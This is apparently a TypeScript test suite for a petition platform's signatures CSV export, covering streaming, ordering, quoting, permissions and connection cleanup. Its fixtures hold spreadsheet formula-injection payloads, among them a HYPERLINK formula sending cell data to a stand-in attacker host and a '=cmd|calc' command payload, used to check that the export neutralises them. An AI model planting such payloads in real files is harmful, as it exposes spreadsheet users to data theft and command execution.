import { Readable, Writable } from 'node:stream';
import type { ReadableStream as WebReadableStream } from 'node:stream/web';
import { parse } from 'csv-parse';
import { parse as parseSync } from 'csv-parse/sync';
import { DataSource } from 'typeorm';
import { DatabasePools } from '../src/common/database/database-pools';
import { SIGNATURE_EXPORT_COLUMNS, SignaturesExportService } from '../src/modules/petitions/signatures-export.service';
import { SIGN_PETITION } from './support/documents';
import {
  confirmQueuedSignatures,
  createApiKey,
  createChapter,
  createOrganisation,
  joinChapter,
  makeOrganiser,
  registerUser,
  TestUser,
} from './support/factories';
import { startTestApp, TestApp } from './support/test-app';

const HEADER = 'signed_at,full_name,email,postcode,country,comment,display_publicly,contact_consent,consent_wording_id,consented_at,source';

/** The people, keys and petitions of this spec, built once in beforeAll. */
interface ExportWorld {
  admin: TestUser;
  organiser: TestUser;
  otherOrganiser: TestUser;
  member: TestUser;
  outsider: TestUser;
  organisationId: string;
  chapterId: string;
  signaturesKey: string;
  petitionsKey: string;
  foreignSignaturesKey: string;
  petition: { id: string; slug: string };
  draft: { id: string };
  hidden: { id: string };
  wordingId: string;
}

describe('signatures CSV export', () => {
  let t: TestApp;
  let db: DataSource;
  const w = {} as ExportWorld;

  const path = (id: string) => `/exports/petitions/${id}/signatures.csv`;
  const get = (id: string, token?: string, init: RequestInit = {}) =>
    fetch(`${t.url}${path(id)}`, { ...init, headers: token ? { authorization: `Bearer ${token}` } : {} });

  async function createPetition(token: string, input: Record<string, unknown>, open = true): Promise<{ id: string; slug: string }> {
    const res = await t.gql(
      `mutation($input: CreatePetitionInput!) { createPetition(input: $input) { id slug } }`,
      { input: { organisationId: w.organisationId, chapterId: w.chapterId, title: 'Petition', target: 'The Minister', body: 'Please act.', ...input } },
      token,
    );
    expect(res.errors).toBeUndefined();
    const created = res.data.createPetition;
    if (open) expect((await t.gql(`mutation($id: ID!) { openPetition(id: $id) { status } }`, { id: created.id }, token)).data.openPetition.status).toBe('OPEN');
    return created;
  }

  async function sign(petitionId: string, input: Record<string, unknown>): Promise<void> {
    const res = await t.gql(SIGN_PETITION, { input: { petitionId, ...input } });
    expect(res.errors).toBeUndefined();
  }

  /** Fixes a signature's times so rows and their order are exact. */
  async function signedAt(email: string, at: string): Promise<void> {
    await db.query(`UPDATE signatures SET created_at = $2, consented_at = CASE WHEN contact_consent THEN $2::timestamptz END WHERE email = $1`, [email, at]);
  }

  const csvOf = (text: string): string[][] => parseSync(text, { relax_column_count: false });

  beforeAll(async () => {
    t = await startTestApp();
    db = t.app.get(DataSource);
    [w.admin, w.organiser, w.otherOrganiser, w.member, w.outsider] = await Promise.all(
      ['Ada Admin', 'Olga Organiser', 'Omar Organiser', 'Mia Member', 'Otto Outsider'].map((name) => registerUser(t, name)),
    );
    w.organisationId = (await createOrganisation(t, w.admin)).id;
    w.chapterId = (await createChapter(t, w.admin, w.organisationId, { name: 'London' })).id;
    const otherChapterId = (await createChapter(t, w.admin, w.organisationId, { name: 'Manchester' })).id;
    await makeOrganiser(t, w.admin, w.organiser, w.chapterId);
    await makeOrganiser(t, w.admin, w.otherOrganiser, otherChapterId);
    await joinChapter(t, w.member, w.chapterId);
    w.signaturesKey = (await createApiKey(t, w.admin, w.organisationId, ['SIGNATURES_READ'])).secret;
    w.petitionsKey = (await createApiKey(t, w.admin, w.organisationId, ['PETITIONS_READ', 'SIGNATURES_WRITE'])).secret;
    const foreignOrg = await createOrganisation(t, w.outsider);
    w.foreignSignaturesKey = (await createApiKey(t, w.outsider, foreignOrg.id, ['SIGNATURES_READ'])).secret;
    w.wordingId = (await db.query(`SELECT id FROM consent_wordings WHERE organisation_id IS NULL`))[0].id;

    w.petition = await createPetition(w.organiser.token, { title: 'Free the rivers', slug: 'free-the-rivers' });
    w.draft = await createPetition(w.organiser.token, { title: 'Not yet' }, false);
    w.hidden = await createPetition(w.organiser.token, { title: 'Chapter only', visibility: 'CHAPTER' });

    // Signed one after another through the API, then given fixed times (two of them tied, to show the id tiebreak).
    await sign(w.petition.id, {
      fullName: 'Ñandú José',
      email: ' NANDU@Example.org ',
      postcode: 'SW1A 1AA',
      country: 'gb',
      comment: 'Línea uno\nLínea "dos", con coma',
      displayPublicly: true,
      contactConsent: true,
      source: 'web',
    });
    await sign(w.petition.id, {
      fullName: 'Smith, Jane "JJ"',
      email: 'jane@example.org',
      postcode: '-1',
      comment: '=HYPERLINK("https://evil.example/?q="&A1,"click")',
      source: '+44 campaign',
    });
    await sign(w.petition.id, { fullName: '@Ana Quispe', email: 'ana@example.org', comment: '\r\nstarts with a carriage return', source: '-utm' });
    await sign(w.petition.id, { fullName: '=1+1', email: 'calc@example.org', comment: '-2+3', source: '@partner', contactConsent: true });
    await sign(w.petition.id, { fullName: 'Plain Person', email: 'plain@example.org', comment: "a=b, c-d; it's fine", country: 'BO' });
    // Double opt-in: only confirmed signatures are exported; these are confirmed as their links would.
    await confirmQueuedSignatures(t);
    // The API refuses tabs, but rows may come from elsewhere (imports): the export neutralises them too.
    await db.query(
      `INSERT INTO signatures (petition_id, full_name, email, comment, source, display_publicly, contact_consent, created_at, confirmed_at)
       VALUES ($1, E'\\tTabbed Name', 'tab@example.org', E'\\tindented', E'\\rcr', false, false, '2026-03-01T10:00:05Z', '2026-03-01T10:00:05Z')`,
      [w.petition.id],
    );
    await signedAt('nandu@example.org', '2026-03-01T10:00:00.000Z');
    await signedAt('jane@example.org', '2026-03-01T10:00:01.000Z');
    await signedAt('ana@example.org', '2026-03-01T10:00:02.500Z');
    await signedAt('calc@example.org', '2026-03-01T10:00:02.500Z');
    await signedAt('plain@example.org', '2026-03-01T10:00:09.000Z');
    // Another petition's signer never shows up.
    const other = await createPetition(w.organiser.token, { title: 'Another cause' });
    await sign(other.id, { fullName: 'Someone Else', email: 'else@example.org' });
    await confirmQueuedSignatures(t);
    // A signature nobody confirmed is never exported.
    await sign(w.petition.id, { fullName: 'Pending Person', email: 'pending@example.org' });
  });
  afterAll(() => t.close());

  it('streams every signer as UTF-8 CSV with a header, oldest first, ties by id, formulas neutralised', async () => {
    const res = await get(w.petition.id, w.organiser.token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename=free-the-rivers-signatures.csv');
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(res.headers.get('content-length')).toBeNull(); // streamed (chunked), not buffered

    const bytes = Buffer.from(await res.arrayBuffer());
    expect(bytes.includes(Buffer.from('Ñandú José', 'utf8'))).toBe(true);
    expect(bytes.includes(Buffer.from('Línea', 'latin1'))).toBe(false);
    const text = bytes.toString('utf8');
    expect(text.startsWith(`${HEADER}\r\n`)).toBe(true);

    const [ana, calc] = (await db.query(`SELECT email FROM signatures WHERE email IN ('ana@example.org', 'calc@example.org') ORDER BY id`)).map(
      (r: { email: string }) => r.email,
    );
    const tied: Record<string, string[]> = {
      'ana@example.org': [
        '2026-03-01T10:00:02.500Z',
        "'@Ana Quispe",
        'ana@example.org',
        '',
        '',
        "'\r\nstarts with a carriage return",
        'false',
        'false',
        '',
        '',
        "'-utm",
      ],
      'calc@example.org': [
        '2026-03-01T10:00:02.500Z',
        "'=1+1",
        'calc@example.org',
        '',
        '',
        "'-2+3",
        'false',
        'true',
        w.wordingId,
        '2026-03-01T10:00:02.500Z',
        "'@partner",
      ],
    };
    const rows = csvOf(text);
    expect(rows[0]).toEqual([...SIGNATURE_EXPORT_COLUMNS]);
    expect(rows.slice(1)).toEqual([
      [
        '2026-03-01T10:00:00.000Z',
        'Ñandú José',
        'nandu@example.org',
        'SW1A 1AA',
        'GB',
        'Línea uno\nLínea "dos", con coma',
        'true',
        'true',
        w.wordingId,
        '2026-03-01T10:00:00.000Z',
        'web',
      ],
      [
        '2026-03-01T10:00:01.000Z',
        'Smith, Jane "JJ"',
        'jane@example.org',
        "'-1",
        '',
        '\'=HYPERLINK("https://evil.example/?q="&A1,"click")',
        'false',
        'false',
        '',
        '',
        "'+44 campaign",
      ],
      tied[ana],
      tied[calc],
      ['2026-03-01T10:00:05.000Z', "'\tTabbed Name", 'tab@example.org', '', '', "'\tindented", 'false', 'false', '', '', "'\rcr"],
      ['2026-03-01T10:00:09.000Z', 'Plain Person', 'plain@example.org', '', 'BO', "a=b, c-d; it's fine", 'false', 'false', '', '', ''],
    ]);
    // Quotes, commas and newlines are quoted per RFC 4180, not lost.
    expect(text).toContain('"Smith, Jane ""JJ"""');
    expect(text).toContain('"Línea uno\nLínea ""dos"", con coma"');
  });

  it('is a header-only file for a petition nobody has signed yet', async () => {
    const empty = await createPetition(w.organiser.token, { title: 'Quiet one', slug: 'quiet-one' });
    const res = await get(empty.id, w.admin.token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename=quiet-one-signatures.csv');
    expect(await res.text()).toBe(`${HEADER}\r\n`);
  });

  it("lets the chapter's organisers, the organisation's admins and SIGNATURES_READ keys export", async () => {
    for (const token of [w.organiser.token, w.admin.token, w.signaturesKey]) {
      const res = await get(w.petition.id, token);
      expect(res.status).toBe(200);
      expect(csvOf(await res.text())).toHaveLength(7);
    }
    // An upper-case id is the same petition.
    expect((await get(w.petition.id.toUpperCase(), w.signaturesKey)).status).toBe(200);
  });

  it('answers 403 to those who see the petition but may not read its signers', async () => {
    const cases: Array<[string, string | undefined]> = [
      ['member', w.member.token],
      ['anonymous', undefined],
      ['signed-in outsider', w.outsider.token],
      ["another chapter's organiser", w.otherOrganiser.token],
      ['key without SIGNATURES_READ', w.petitionsKey],
      ["another organisation's SIGNATURES_READ key", w.foreignSignaturesKey],
    ];
    for (const [who, token] of cases) {
      const res = await get(w.petition.id, token);
      expect({ who, status: res.status, type: res.headers.get('content-type') }).toEqual({
        who,
        status: 403,
        type: expect.stringMatching(/^application\/json/),
      });
      expect(await res.text()).not.toContain('example.org');
    }
    // A CHAPTER petition is visible to its members: still 403 for them.
    expect((await get(w.hidden.id, w.member.token)).status).toBe(403);
  });

  it('limits organisation-wide petitions to admins and SIGNATURES_READ keys', async () => {
    const orgWide = await createPetition(w.admin.token, { chapterId: undefined, title: 'Everyone together' });
    expect((await get(orgWide.id, w.admin.token)).status).toBe(200);
    expect((await get(orgWide.id, w.signaturesKey)).status).toBe(200);
    expect((await get(orgWide.id, w.organiser.token)).status).toBe(403);
  });

  it('answers the same 404 for unknown, malformed and invisible petitions', async () => {
    const answers = await Promise.all(
      [
        get(w.draft.id), // DRAFT, anonymous
        get(w.draft.id, w.member.token), // DRAFT, member
        get(w.hidden.id), // CHAPTER visibility, anonymous
        get(w.hidden.id, w.outsider.token), // CHAPTER visibility, outsider
        get('00000000-0000-4000-8000-000000000000', w.admin.token),
        get('not-an-id', w.admin.token),
        get(`${w.petition.id}x`, w.admin.token),
      ].map(async (pending) => {
        const res = await pending;
        return { status: res.status, body: await res.text() };
      }),
    );
    expect(answers.map((a) => a.status)).toEqual([404, 404, 404, 404, 404, 404, 404]);
    expect(new Set(answers.map((a) => a.body)).size).toBe(1);
    // Its organisers do see the draft (with no signers yet).
    expect((await get(w.draft.id, w.organiser.token)).status).toBe(200);
  });

  it('answers 401 to bad credentials, never treating them as anonymous', async () => {
    for (const token of ['mk_not-a-key', 'not.a.jwt', `${w.organiser.token}x`]) {
      const res = await get(w.petition.id, token);
      expect(res.status).toBe(401);
      expect(await res.text()).not.toContain('example.org');
    }
  });

  describe('a large export', () => {
    const SIGNERS = 20_000;
    let bulk: { id: string };

    beforeAll(async () => {
      bulk = await createPetition(w.organiser.token, { title: 'Big one', slug: 'big-one' });
      await db.query(
        `INSERT INTO signatures (petition_id, full_name, email, comment, display_publicly, contact_consent, created_at, confirmed_at)
         SELECT $1, 'Signer ' || lpad(i::text, 5, '0'), 'bulk-' || i || '@example.org', CASE WHEN i % 2 = 0 THEN '=cmd|calc' END,
                false, false, timestamptz '2026-01-01T00:00:00Z' + i * interval '1 second', now()
           FROM generate_series(1, $2::int) AS i`,
        [bulk.id, SIGNERS],
      );
    });

    it('streams completely, in order, through a streaming parser', async () => {
      const res = await get(bulk.id, w.signaturesKey);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-length')).toBeNull();
      const parser = Readable.fromWeb(res.body as WebReadableStream).pipe(parse({ columns: true }));
      let count = 0;
      let outOfOrder = 0;
      let neutralised = 0;
      let previous = '';
      for await (const row of parser as AsyncIterable<Record<string, string>>) {
        count++;
        if (row.full_name !== `Signer ${String(count).padStart(5, '0')}` || row.signed_at <= previous) outOfOrder++;
        if (row.comment === "'=cmd|calc") neutralised++;
        previous = row.signed_at;
      }
      expect({ count, outOfOrder, neutralised }).toEqual({ count: SIGNERS, outOfOrder: 0, neutralised: SIGNERS / 2 });
      expect(previous).toBe(new Date(Date.parse('2026-01-01T00:00:00Z') + SIGNERS * 1000).toISOString());
    });

    // Exports run on their own pool, never the request pool.
    const pool = () => t.app.get(DatabasePools).exportPool;
    const checkedOut = () => pool().totalCount - pool().idleCount;

    it('releases its database client when the writer goes away mid-stream', async () => {
      const service = t.app.get(SignaturesExportService);
      let received = 0;
      const out: Writable = new Writable({
        write(chunk: Buffer, _encoding, callback) {
          received += chunk.length;
          callback();
          out.destroy(); // the downloader disconnects after the first chunk
        },
      });
      let ready = false;
      await service.writeCsv(bulk.id, out, () => (ready = true)); // resolves once the client is released
      expect(ready).toBe(true);
      expect(received).toBeGreaterThan(0);
      expect(received).toBeLessThan(100_000);
      expect(checkedOut()).toBe(0);
    });

    it('frees the connection when HTTP clients disconnect mid-download: more aborts than the pool has connections, then a full export', async () => {
      const poolSize = pool().options.max!;
      // A client given back with an error is closed rather than reused: the export's answer to a cut download.
      let discarded = 0;
      const onRelease = (error?: Error) => void (error && discarded++);
      pool().on('release', onRelease);
      for (let i = 0; i < poolSize + 2; i++) {
        const abort = new AbortController();
        const res = await get(bulk.id, w.signaturesKey, { signal: abort.signal });
        expect(res.status).toBe(200);
        const reader = res.body!.getReader();
        expect((await reader.read()).done).toBe(false);
        abort.abort();
        await expect(reader.read()).rejects.toThrow();
      }
      // A leaked client per abort would exhaust the pool and this would hang until the timeout.
      const res = await get(bulk.id, w.signaturesKey, { signal: AbortSignal.timeout(20_000) });
      expect(res.status).toBe(200);
      expect(csvOf(await res.text())).toHaveLength(SIGNERS + 1);
      pool().off('release', onRelease);
      expect(discarded).toBeGreaterThan(0);
    });
  });
});
